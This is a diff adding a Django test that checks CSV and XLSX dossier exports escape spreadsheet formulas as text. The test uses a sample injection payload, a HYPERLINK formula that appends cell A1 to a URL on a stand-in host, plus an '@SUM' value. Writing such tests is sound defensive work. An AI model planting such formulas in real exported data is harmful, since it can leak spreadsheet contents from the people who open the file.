@@ -397,6 +397,24 @@ def test_the_exports_have_the_filtered_list(client, reviewer, under_review, call
     assert Decimal(str(values[1][6])) == Decimal("72.50")
 
 
+def test_the_exports_never_hand_over_a_formula(client, reviewer, under_review, cluster):
+    """Any member renames their territory: the funder's spreadsheet shows text, not a link."""
+    hyperlink = '=HYPERLINK("https://exemple.org/?d="&A1;"Ouvrir")'
+    cluster.territory.name = hyperlink
+    cluster.territory.save()
+    cluster.collective.name = "@SUM(1+1)"
+    cluster.collective.save()
+    headers = token_for(reviewer)
+    response = client.get(reverse("api:instruction-dossier-export-csv"), **headers)
+    row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1]
+    assert row[2:4] == ["'" + hyperlink, "'@SUM(1+1)"]
+    response = client.get(reverse("api:instruction-dossier-export-xlsx"), **headers)
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = list(sheet.iter_rows())[1]
+    assert [(cell.value, cell.data_type) for cell in cells[2:4]] == [
+        ("'" + hyperlink, "s"), ("'@SUM(1+1)", "s")]
+
+
 def test_the_list_keeps_a_constant_number_of_queries(client, reviewer, funder, collective_a,
                                                      django_assert_max_num_queries):
     call = call_with_grid(funder)
